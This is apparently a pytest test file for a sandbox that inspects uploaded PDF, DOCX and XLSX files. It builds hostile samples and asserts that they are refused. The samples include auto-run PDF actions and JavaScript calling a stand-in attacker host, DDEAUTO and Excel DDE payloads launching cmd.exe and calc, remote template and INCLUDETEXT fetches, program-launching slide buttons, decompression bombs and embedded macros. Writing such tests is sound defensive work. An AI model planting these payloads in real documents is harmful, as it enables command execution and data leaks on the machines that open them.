"""What a PDF or an office file asks for by itself, and what is innocent although it looks the same."""

import pikepdf
import pytest

from tests.evidence.files import hostile
from tests.zi_portal.sandbox.test_inspection import look, refused, short
from zi_portal.lib.sandbox.inside.inspection import scripts

NAME = pikepdf.Name
PLAIN = hostile.pdf(pages=2)


def act(kind, **fields):
    return pikepdf.Dictionary(S=NAME(f"/{kind}"), **fields)


def on_page(document, action):
    document.pages[0].obj.AA = pikepdf.Dictionary(O=action)


def on_mouse(document, action):
    note = pikepdf.Dictionary(Type=NAME.Annot, Subtype=NAME.Link, AA=pikepdf.Dictionary(E=action))
    document.pages[0].obj.Annots = pikepdf.Array([note])


def on_close(document, action):
    document.Root.AA = document.make_indirect(pikepdf.Dictionary(WC=document.make_indirect(action)))


def on_opening(document, action):
    document.Root.OpenAction = document.make_indirect(action)


def afterwards(document, action):
    on_opening(document, act("GoTo", D="a", Next=pikepdf.Array([act("Named", N=NAME.NextPage), action])))


def on_click(document, action):
    note = pikepdf.Dictionary(Type=NAME.Annot, Subtype=NAME.Link, A=action)
    document.pages[0].obj.Annots = pikepdf.Array([note])


def with_action(place, action):
    return hostile.pdf(lambda document: place(document, action))


BY_ITSELF = [on_page, on_mouse, on_close, on_opening, afterwards]


@pytest.mark.case("A4")
@pytest.mark.parametrize("place", BY_ITSELF)
@pytest.mark.parametrize("kind", ["URI", "GoToR", "SubmitForm", "Thread", "GoTo3DView", "Baru"])
def test_nothing_in_a_pdf_leaves_it_by_itself(place, kind):
    assert refused(with_action(place, act(kind, URI="https://jahat.example", F="//jahat/a.pdf")), "pdf") == "pdf_action"


@pytest.mark.parametrize("kind", ["URI", "GoToR", "SubmitForm", "Thread"])
def test_what_somebody_has_to_click_stays(kind):
    assert look(with_action(on_click, act(kind, URI="https://contoh.id")), "pdf")[0] == {"kind": "pdf"}


@pytest.mark.parametrize("place", BY_ITSELF)
def test_what_stays_within_the_pdf_may_begin_by_itself(place):
    for action in (act("GoTo", D="a"), act("Named", N=NAME.Print), act("JavaScript", JS="print(true);")):
        assert look(with_action(place, action), "pdf")[0] == {"kind": "pdf"}


PRINTING = [
    "print(true);",
    "this.print();",
    "print({});",
    "this.print({bUI: true, bSilent: false, bShrinkToFit: true});",
    "this.print({\n bUI: true,\n bSilent: false\n});",
    "var pp = getPrintParams();pp.interactive = pp.constants.interactionLevel.full;print(pp);",
    'AFNumber_Format(2, 0, 0, 0, "", true);',
    'AFSimple_Calculate("SUM", new Array ("a", "b"));',
]
RUNNING = [
    "app.alert(1)",
    "print(true);app.launchURL('https://jahat.example')",
    "print(this.submitForm('x'))",
    "print('a'+app.f())",
    "pp.fileName = '/c/x'",
    "print = app.launchURL; print('x')",
    "print(true)/*;*/,app.alert(1)",
    "this.print({bUI: app.alert(1)});",
    "AFNumber_Format(2, 0, 0, 0, eval('x'), true)",
    "print(true);" * 4000,
]


@pytest.mark.case("A4")
@pytest.mark.parametrize("script", PRINTING, ids=short)
def test_a_script_that_only_prints_or_lays_out_fields_is_taken(script):
    assert look(with_action(on_opening, act("JavaScript", JS=script)), "pdf")[0] == {"kind": "pdf"}


@pytest.mark.case("A4")
@pytest.mark.parametrize("script", RUNNING, ids=range(len(RUNNING)))
def test_a_script_that_does_more_is_refused(script):
    assert refused(with_action(on_opening, act("JavaScript", JS=script)), "pdf") == "pdf_script"


def test_a_script_in_a_stream_is_read_too_and_anything_else_is_none():
    with pikepdf.new() as document:
        assert scripts.is_harmless(document.make_stream(b"print(true);")) and scripts.is_harmless(
            pikepdf.String("print()")
        )
        assert not scripts.is_harmless(document.make_stream(b"app.alert(1)")) and not scripts.is_harmless(None)


def settings_file(name="Press Quality.joboptions", content=b"<< /ASCII85EncodePages false >> setdistillerparams"):
    def attach(document):
        document.attachments[name] = pikepdf.AttachedFileSpec(document, content, filename=name)

    return attach


@pytest.mark.case("A4")
def test_settings_of_a_printer_are_the_only_attachment_that_is_taken():
    assert look(hostile.pdf(settings_file()), "pdf")[0] == {"kind": "pdf"}
    for bad in (settings_file("a.xml"), settings_file("a.joboptions", b"MZ\0\0"), settings_file("a.joboptions.exe")):
        assert refused(hostile.pdf(bad), "pdf") == "pdf_attachment"


def test_a_file_hidden_beside_the_settings_is_found():
    def both(document):
        settings_file()(document)
        document.Root.Lain = document.make_stream(b"MZ", Type=NAME.EmbeddedFile)

    assert refused(hostile.pdf(both), "pdf") == "pdf_attachment"


@pytest.mark.case("A4")
def test_a_refused_pdf_says_whether_somebody_signed_it():
    def signed(document):
        hostile.attachment(document)
        document.Root.Tanda = document.make_indirect(
            pikepdf.Dictionary(Type=NAME.Sig, ByteRange=[0, 1, 2, 3], Contents="x")
        )

    assert (
        look(hostile.pdf(signed), "pdf")[0]["signed"] and not look(hostile.pdf(hostile.attachment), "pdf")[0]["signed"]
    )


# What stands around a PDF

NOTICE = b"<br />\n<b>Notice</b>: Undefined index in cetak.php<br />\n"
PAGE = b"\n<!-- debug -->" + b"<div>halaman</div>\n" * 400


@pytest.mark.case("A3")
@pytest.mark.parametrize(("before", "behind"), [(NOTICE, b""), (b"", PAGE), (NOTICE, PAGE), (b"\n\n" + NOTICE, b"")])
def test_messages_of_a_program_of_the_web_around_a_pdf_are_left_out(before, behind):
    start, end = look(before + PLAIN + behind, "pdf")[0]["part"]
    content = (before + PLAIN + behind)[start:end]
    assert content.startswith(b"%PDF-") and content.rstrip() == PLAIN.rstrip()


@pytest.mark.case("A3")
@pytest.mark.parametrize(
    "before", [b"GIF89a", NOTICE + b"<script>alert(1)</script>", b"#!/bin/sh\n", b"{\\rtf1 ", b"<br />\1", b"%!PS\n"]
)
def test_anything_but_a_message_before_a_pdf_is_another_file(before):
    assert refused(before + PLAIN, "pdf") == "polyglot"


@pytest.mark.case("A3")
def test_a_pdf_without_its_end_mark_is_whole_when_all_else_is_there():
    assert look(PLAIN.rstrip().removesuffix(b"%%EOF"), "pdf")[0] == {"kind": "pdf"}
    assert refused(PLAIN[: PLAIN.rfind(b"startxref")], "pdf") == "truncated"
    assert refused(PLAIN[: PLAIN.rfind(b"trailer")] + b"startxref\n9\n", "pdf") in ("truncated", "unreadable")


@pytest.mark.case("A3")
def test_a_pdf_whose_last_version_is_cut_is_not_taken_for_the_version_before():
    assert refused(PLAIN + b"\n9 0 obj\n<< /Type /Sig /Contents <00", "pdf") == "truncated"
    assert refused(PLAIN + bytes(range(256)) * 20, "pdf") == "polyglot"


# Office files

ELSEWHERE = ["https://jahat.example/a", "http://x/a", "\\\\jahat\\a", "file://jahat/a", "file:///C:/a.xlsx", "a.xlsx"]
KINDS = ["oleObject", "frame", "subDocument", "image", "externalLinkPath", "mailMergeSource", "video", "baru"]


@pytest.mark.case("A4")
@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("target", ELSEWHERE)
def test_of_what_leads_out_of_an_office_file_only_links_stay(kind, target):
    assert refused(hostile.docx(hostile.relation(kind, target)), "docx") == "external"
    assert look(hostile.docx(hostile.relation("hyperlink", target)), "docx")[0] == {"kind": "docx"}


@pytest.mark.parametrize("target", ["https://jahat.example/a.dotm", "\\\\jahat\\a.dotm", "file://jahat/a.dotm"])
def test_a_template_from_another_machine_is_refused(target):
    assert refused(hostile.docx(hostile.relation("attachedTemplate", target)), "docx") == "external"


def test_a_relation_that_hides_its_mode_is_seen_by_its_target():
    parts = hostile.relation("attachedTemplate", "https://jahat.example/a.dotm")
    for mode in ("", ' TargetMode="external"', ' TargetMode="Internal"'):
        changed = {name: text.replace(' TargetMode="External"', mode) for name, text in parts.items()}
        assert refused(hostile.docx(changed), "docx") == "external"


def document(inside):
    return hostile.docx(document=f"<w:document xmlns:w='w' xmlns:v='v'><w:body>{inside}</w:body></w:document>")


def field(*pieces, end="end"):
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return f'<w:fldChar w:fldCharType="begin"/>{runs}<w:fldChar w:fldCharType="{end}"/>'


END = '<w:fldChar w:fldCharType="end"/>'
DDE = [
    field(' DDEAUTO c:\\\\cmd.exe "/k calc"'),
    field(" D", "D", "EAUTO", " x"),
    field("dde x y"),
    field(" DD").removesuffix(END) + field(' QUOTE "x" ') + "<w:instrText>E x</w:instrText>" + END,
    field(" DDE x", end="separate"),
    "<w:instrText> DDE x</w:instrText>",
    '<w:fldSimple w:instr=" DDE x y"/>',
    field(" IF ").removesuffix(END) + field(" DDE x"),
]


@pytest.mark.case("A4")
@pytest.mark.parametrize("inside", DDE, ids=range(len(DDE)))
def test_a_dde_field_is_found_however_it_is_cut(inside):
    assert refused(document(inside), "docx") == "dde"


@pytest.mark.parametrize("text", [" PAGE ", " DATE ", ' HYPERLINK "https://contoh.id"', " TOC \\o", " REF DDE1 "])
def test_usual_fields_are_taken(text):
    assert look(document(field(text) + "<w:p><w:t>DDE x</w:t></w:p>"), "docx")[0] == {"kind": "docx"}


LOADING = [
    field(' INCLUDETEXT "https://jahat.example/a"'),
    field(' INCLUDEPICTURE "https://jahat.example/a.png" \\d'),
    field(' LINK Excel.Sheet.12 "\\\\\\\\jahat\\\\a.xlsx"'),
    '<v:imagedata src="https://jahat.example/a.png"/>',
    '<w:mailMerge><w:connectString w:val="Provider=SQL"/></w:mailMerge>',
]


@pytest.mark.case("A4")
@pytest.mark.parametrize("inside", LOADING, ids=range(len(LOADING)))
def test_what_a_document_fetches_by_field_or_drawing_is_refused(inside):
    assert refused(document(inside), "docx") == "external"


def test_a_picture_pasted_from_a_page_keeps_its_address_without_being_fetched():
    pasted = field(' INCLUDEPICTURE "https://contoh.id/a.png" \\* MERGEFORMATINET ')
    assert look(document(pasted), "docx")[0] == {"kind": "docx"}


SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"


def workbook(part, text):
    return hostile.docx({part: text}, main=SHEET)


@pytest.mark.case("A4")
@pytest.mark.parametrize(
    ("part", "text", "code"),
    [
        ("xl/externalLinks/externalLink1.xml", "<externalLink><ddeLink ddeService='cmd'/></externalLink>", "dde"),
        ("xl/worksheets/sheet1.xml", "<c><f>cmd|'/c calc'!A1</f></c>", "dde"),
        ("xl/workbook.xml", "<definedName>cmd|' /c calc'!A1</definedName>", "dde"),
        ("xl/connections.xml", "<connection><webPr url='https://x'/></connection>", "external"),
        ("xl/connections.xml", "<connection><dbPr connection='DSN=x'/></connection>", "external"),
        ("xl/connections.xml", "<connection><textPr sourceFile='\\\\jahat\\a.csv'/></connection>", "external"),
        ("xl/odd.foo", "<!DOCTYPE a [<!ENTITY b 'c'>]><a/>", "xml_entities"),
    ],
)
def test_a_workbook_asks_no_other_program_and_no_server(part, text, code):
    types = hostile.OVERRIDE.format(part, "application/x+xml")
    assert refused(hostile.docx({part: text}, main=SHEET, types=types), "xlsx") == code


@pytest.mark.parametrize(
    ("part", "text"),
    [
        ("xl/worksheets/sheet1.xml", '<c><f>IF(A1="a|b",\'x|y\'!A1,"")</f></c>'),
        ("xl/connections.xml", "<connection><dbPr connection='Provider=Mashup;Data Source=$Workbook$;'/></connection>"),
        ("xl/connections.xml", "<connection><textPr sourceFile='C:\\Data\\a.csv'/></connection>"),
    ],
)
def test_usual_formulas_and_sources_of_a_workbook_are_taken(part, text):
    assert look(workbook(part, text), "xlsx")[0] == {"kind": "xlsx"}


def test_a_button_of_slides_that_starts_a_program_is_refused():
    assert refused(document('<a:hlinkClick xmlns:a="a" action="ppaction://program"/>'), "docx") == "embedded_program"
    assert look(document('<a:hlinkClick xmlns:a="a" action="ppaction://hlinksldjump"/>'), "docx")[0]["kind"] == "docx"


@pytest.mark.case("A7")
def test_pictures_that_nobody_packed_may_be_packed_tight_and_only_they():
    white = b"\0" * (3 << 20)
    for name, beginning in {
        "a.bmp": b"BM",
        "a.emf": b"\1\0\0\0",
        "a.tiff": b"II*\0",
        "o.bin": b"\xd0\xcf\x11\xe0",
    }.items():
        assert look(hostile.docx({f"word/media/{name}": beginning + white}), "docx")[0] == {"kind": "docx"}
        assert refused(hostile.docx({f"word/media/{name}": white}), "docx") == "bomb"
    assert refused(hostile.docx({"word/b.xml": "<a>" + " " * (3 << 20) + "</a>"}), "docx") == "bomb"


def test_macros_of_an_old_file_inside_are_found():
    inside = b"\xd0\xcf\x11\xe0" + "_VBA_PROJECT".encode("utf-16-le")
    assert refused(hostile.docx({"word/embeddings/a.xls": inside}), "docx") == "macro"
